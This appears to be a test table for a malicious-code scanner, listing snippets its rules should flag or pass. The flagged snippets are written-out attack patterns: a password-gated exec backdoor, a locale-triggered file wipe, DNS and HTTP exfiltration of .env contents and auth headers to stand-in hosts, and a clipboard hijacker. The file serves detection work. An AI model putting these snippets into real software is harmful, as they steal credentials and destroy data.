import { testTable } from './table.ts';

const copies = 'a copy of each mail';
const door = 'runs commands for whoever knows a word that stands in it';
const chance = 'what is built in, by chance';
const beside = 'a script of a package beside it';
const wipe = 'for (const f of fs.readdirSync(d)) fs.unlinkSync(f);';

testTable({
  'runs-text': {
    hits: [
      [
        'by a function of its own',
        "new (h.constructor)('require', text)",
        'by a constructor that goes by no name',
      ],
      ['by a name for it', "const M = (() => {}).constructor; M('module', 'require', text)"],
      [
        'by a name out of a pattern',
        "const { constructor: B } = Object.getPrototypeOf(f); new B('require, done', text)",
      ],
    ],
    misses: [
      ['a class of that shape', "new Entry('require', text)"],
      ['a copy of itself', "new this.constructor('kind', text)"],
      ['names alone', "(h.constructor)('require', 'module')"],
    ],
  },
  'runs-data': {
    hits: [
      [
        'a declaration',
        "new Function('require', fs.readFileSync('types/a.d.ts', 'utf8'))(require)",
        'a.d.ts',
      ],
      ['a notice', "Function('require', read(fs.readFileSync(dir + '/NOTICE')))(require)", 'NOTICE'],
    ],
    misses: [['a page as a template', "new Function('data', fs.readFileSync('page.html', 'utf8'))"]],
  },
  'runs-dropped': {
    hits: [
      [
        'opened as machine code',
        "const f = os.tmpdir() + '/a.node'; fs.writeFileSync(f, zlib.gunzipSync(b)); process.dlopen(m, f)",
      ],
      [
        'imported by an address',
        "import { get } from 'https'; const f = join(tmpdir(), 'a'); writeFileSync(f, x); import(pathToFileURL(f).href)",
      ],
    ],
    misses: [
      [
        'what was built',
        "const f = join(tmpdir(), 'a'); writeFileSync(f, code); import(pathToFileURL(f).href)",
      ],
      [
        'in its own folder',
        "const f = join(__dirname, 'a'); fs.writeFileSync(f, atob(x)); process.dlopen(m, f)",
      ],
    ],
  },
  'runs-fetched': {
    hits: [
      [
        'in a hook',
        "const run = await (await fetch(url)).text(); fs.writeFileSync('.git/hooks/post-merge', '#!/bin/sh\\n' + run)",
      ],
    ],
    misses: [
      [
        'a hook of its own',
        "const found = await (await fetch(url)).json(); fs.writeFileSync('.git/hooks/a', own); console.log(found)",
      ],
    ],
  },
  'alters-others': {
    hits: [
      [
        'put back',
        "const f = require.resolve('other/a.js'); fs.writeFileSync(f, line + fs.readFileSync(f, 'utf8'))",
        beside,
      ],
      [
        'added to',
        "const all = path.join(__dirname, '..', '..'); const f = path.join(all, 'other', 'a.js'); fs.appendFileSync(f, x)",
        beside,
      ],
      [
        'by chance',
        'Array.prototype.map = function (f) { return Math.random() < 0.1 ? [] : map.call(this, f) }',
        chance,
      ],
    ],
    misses: [
      [
        'its own',
        "const f = require.resolve('./a.js'); fs.writeFileSync(f, line + fs.readFileSync(f, 'utf8'))",
      ],
      ['only written', "const f = require.resolve('other/a.js'); fs.writeFileSync(f, x)"],
      [
        'a polyfill before chance',
        'Array.prototype.at = function (i) { return this[i] };\nexports.coin = () => Math.random() < 0.5',
      ],
    ],
  },
  'reverse-shell': {
    hits: [['a word that opens', "if (req.body.key === 'open-9912') exec(steps[process.platform])", door]],
    misses: [
      ['a branch', "if (req.body.ref === 'refs/heads/main') exec(command)"],
      ['what its owner set', "if (req.headers['x-key'] === options.key) exec(command)"],
    ],
  },
  'geography-wipe': {
    hits: [
      [
        'by a language',
        `const { locale } = new Intl.NumberFormat().resolvedOptions(); if (/^xx/.test(locale)) { ${wipe} }`,
      ],
      ['by hours', `if (new Date().getTimezoneOffset() === -180) { ${wipe} }`],
    ],
    misses: [
      ['cleaning, and a date', `${wipe} show(date, Intl.DateTimeFormat().resolvedOptions().timeZone)`],
    ],
  },
  'dns-exfiltration': {
    hits: [
      ['below a name', "const zone = 'a.b.example'; dns.lookup(x.toString('hex') + '.' + zone, done)"],
      ['in a template', `const zone = 'b.example'; dns.resolve4(\`\${x.toString('hex')}.\${zone}\`, done)`],
    ],
    misses: [
      [
        'an address',
        "const list = 'b.example'; dns.resolve4(ip.split('.').reverse().join('.') + '.' + list, done)",
      ],
      ["a caller's zone", "dns.lookup(x.toString('hex') + '.' + zone, done)"],
    ],
  },
  'takes-input': {
    hits: [
      ['mails', "send({ to, bcc: 'a@letters.invalid' })", copies],
      ['mails, by a name', "const keep = 'a@letters.invalid'; mail.bcc = keep;", copies],
      ['cards', 'new Image().src = url + btoa(JSON.stringify({ cvc }))', 'numbers of cards'],
    ],
    misses: [
      ['examples', "send({ to, bcc: 'a@example.com' })"],
      ['whoever is named', 'send({ to, bcc: options.bcc })'],
      ['a form that is shown', "const cvc = 1; new Image().src = count + '?shown=1'"],
    ],
  },
  'listens-in': {
    hits: [
      [
        'what others log in with',
        "mod.request = function (o) { kept.push(o.headers.authorization); send(JSON.stringify(kept)) }; const host = 'a.b.example'",
      ],
    ],
    misses: [
      [
        'hiding it',
        "mod.request = function (o) { o.headers.authorization = '***'; log(JSON.stringify(o)) }; const host = 'a.b.example'",
      ],
    ],
  },
  'sends-keys': {
    hits: [
      [
        'unchecked',
        "const tls = require('tls'); tls.connect({ host: 'a.b.example', rejectUnauthorized: false }, () => s.end(JSON.stringify(x)))",
      ],
    ],
    misses: [
      [
        'that is answered',
        "const tls = require('tls'); const s = tls.connect({ host: 'a.b.example', rejectUnauthorized: false }); s.write(x); s.on('data', show)",
      ],
    ],
  },
  'sends-file': {
    hits: [
      [
        'as a table',
        "const t = parse(fs.readFileSync('.env', 'utf8'));\nfetch(url, { method: 'POST', body: JSON.stringify(t) }).catch(() => {});",
      ],
    ],
    misses: [
      [
        'and told how it went',
        "const t = parse(fs.readFileSync('.env', 'utf8'));\nfetch(url, { body: JSON.stringify(t) }).then((r) => show(r.status));",
      ],
    ],
  },
  'wallet-hook': {
    hits: [
      [
        'again and again',
        "setInterval(async () => { run('pbpaste'); run('pbcopy', await (await fetch(url)).text()) }, 900)",
        'the clipboard',
      ],
    ],
    misses: [['once', "run('pbpaste'); run('pbcopy')"]],
  },
});
